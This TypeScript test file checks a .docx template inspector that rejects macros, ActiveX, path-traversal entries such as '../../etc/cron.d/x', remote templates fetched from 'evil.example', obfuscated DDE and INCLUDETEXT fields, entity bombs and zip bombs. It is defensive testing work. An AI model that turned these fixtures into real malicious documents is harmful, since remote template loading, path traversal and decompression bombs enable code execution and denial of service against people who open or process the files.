import { deflateRawSync, inflateRawSync } from 'node:zlib';

import { DEFAULT_TEMPLATE_LIMITS, inspectTemplate } from '../../src/documents/docx-package';
import type { ZipEntry } from '../../src/documents/zip-entry';
import { writeZip } from '../../src/documents/zip-writer';
import { processorTime } from '../helpers/processor-time';
import { docxEntries, documentXml, entry, paragraph, tinyDocx } from './tiny-docx';

const idsOf = (bytes: Uint8Array, limits = DEFAULT_TEMPLATE_LIMITS): string[] => inspectTemplate(bytes, limits).map(({ id }) => id);
const withEntries = (...extra: ZipEntry[]): Uint8Array => tinyDocx(['text'], extra);
const relationship = (attributes: string): Uint8Array =>
	withEntries(entry('word/_rels/settings.xml.rels', `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${attributes}/></Relationships>`));
const typeOf = (kind: string): string => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}"`;
const field = (...instructions: string[]): string =>
	`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const contentTypes = (type: string): ZipEntry => entry('[Content_Types].xml', `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`);

describe('inspectTemplate', () => {
	it('R-CON-2: has nothing against an ordinary document with a hyperlink', () => {
		expect(idsOf(relationship(`${typeOf('hyperlink')} Target="https://example.com" TargetMode="External"`))).toEqual([]);
	});

	it('R-CON-2: explains in a sentence, and names the part', () => {
		expect(inspectTemplate(withEntries(entry('word/vbaProject.bin', 'x')))).toEqual([
			{ id: 'macros', explanation: 'The document holds macros (word/vbaProject.bin). Save it as .docx.', tag: null, file: 'word/vbaProject.bin' },
		]);
	});

	it.each([
		['an empty file', new Uint8Array(), 'not_a_zip'],
		['a zip of something else', writeZip([entry('hello.txt', 'hello')]), 'not_a_docx'],
		['a spreadsheet', withEntries(contentTypes('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml')), 'not_a_docx'],
		['a .docm', withEntries(contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml')), 'macros'],
		['a control', withEntries(entry('word/activeX/activeX1.xml', '<a/>')), 'active_content'],
		['an embedded program', withEntries(entry('word/embeddings/oleObject1.bin', 'x')), 'active_content'],
		['a path out of the folder', withEntries(entry('../../etc/cron.d/x', 'x')), 'unsafe_path'],
		['a path in the middle out of the folder', withEntries(entry('word/../../x.xml', 'x')), 'unsafe_path'],
		['an absolute path', withEntries(entry('/etc/passwd', 'x')), 'unsafe_path'],
		['a Windows path', withEntries(entry('C:\\x.xml', 'x')), 'unsafe_path'],
		['names that differ in case', withEntries(entry('word/Document.xml', '<a/>')), 'duplicate_entry'],
		['an entity bomb', withEntries(entry('word/document.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')), 'doctype'],
		['a template loaded from outside', relationship(`${typeOf('attachedTemplate')} Target="http://evil.example/t.dotm" TargetMode="External"`), 'external_relationship'],
		['a picture loaded from outside', relationship(`${typeOf('image')} Target="http://evil.example/p.png" TargetMode="External"`), 'external_relationship'],
		['an outside hidden by a character reference', relationship(`${typeOf('attachedTemplate')} Target="http://evil.example" TargetMode="&#69;xternal"`), 'external_relationship'],
		['an outside hidden in single quotes', relationship(`${typeOf('attachedTemplate')} Target='http://evil.example' TargetMode = 'External'`), 'external_relationship'],
		['a DDE field split over runs', withEntries(entry('word/document.xml', documentXml(field(' DD', 'EAUTO c:\\x')))), 'loading_field'],
		['a simple field that includes a file', withEntries(entry('word/document.xml', documentXml('<w:p><w:fldSimple w:instr="INCLUDETEXT \\\\evil\\x"/></w:p>'))), 'loading_field'],
		['a field code spelt by a nested field', withEntries(entry('word/document.xml', documentXml(field(' ').replace('</w:p>', '') + field('QUOTE 68 68 69').replace('<w:p>', '')))), 'loading_field'],
		['a DDE field under another prefix', withEntries(entry('word/document.xml', '<x:document><x:fldSimple x:instr=\'DDE c\'/></x:document>')), 'loading_field'],
		['an embedded web page', relationship(`${typeOf('aFChunk')} Target="page.html"`), 'active_content'],
		['XML in another encoding', withEntries(entry('word/document.xml', Buffer.from(documentXml(paragraph('текст')), 'utf16le'))), 'zip_damaged'],
	])('R-CON-2: refuses %s', (_what, bytes, id) => {
		expect(idsOf(bytes)).toContain(id);
	});

	it('R-CON-2: page numbers and links are harmless fields, whatever words the address holds', () => {
		expect(idsOf(withEntries(entry('word/document.xml', documentXml(field('PAGE') + field(' HYPERLINK "https://example.com/', 'link/import"')))))).toEqual([]);
	});

	it('R-CON-2: tells everything that is wrong with the contents at once', () => {
		const bytes = withEntries(
			entry('word/vbaProject.bin', 'x'),
			entry('word/activeX/activeX1.xml', '<!DOCTYPE a>'),
			contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
		);
		expect(idsOf(bytes)).toEqual(['macros', 'macros', 'active_content', 'doctype']);
	});

	it('R-CON-2: each limit is a number that can be set', () => {
		const bytes = tinyDocx(['x'.repeat(10_000)]);
		expect(idsOf(bytes, { ...DEFAULT_TEMPLATE_LIMITS, maxFileBytes: 100 })).toEqual(['template_too_large']);
		expect(idsOf(bytes, { ...DEFAULT_TEMPLATE_LIMITS, maxEntries: 2 })).toEqual(['too_many_entries']);
		expect(idsOf(bytes, { ...DEFAULT_TEMPLATE_LIMITS, maxEntryBytes: 5_000 })).toEqual(['zip_bomb']);
		expect(idsOf(bytes, { ...DEFAULT_TEMPLATE_LIMITS, maxUnpackedBytes: 5_000 })).toEqual(['zip_bomb']);
	});

	it('R-CON-2: a hundred megabytes packed into a hundred kilobytes are refused unread', () => {
		const bomb = writeZip(docxEntries(['x'], [entry('word/media/bomb.xml', Buffer.alloc(100 * 1024 * 1024))]));
		expect(bomb.byteLength).toBeLessThan(200_000);
		const packed = deflateRawSync(Buffer.alloc(100 * 1024 * 1024));
		const reading = processorTime();
		inflateRawSync(packed);
		const read = reading();
		const refusing = processorTime();
		expect(idsOf(bomb)).toEqual(['zip_bomb']);
		expect(refusing()).toBeLessThan(read / 3);
	});
});
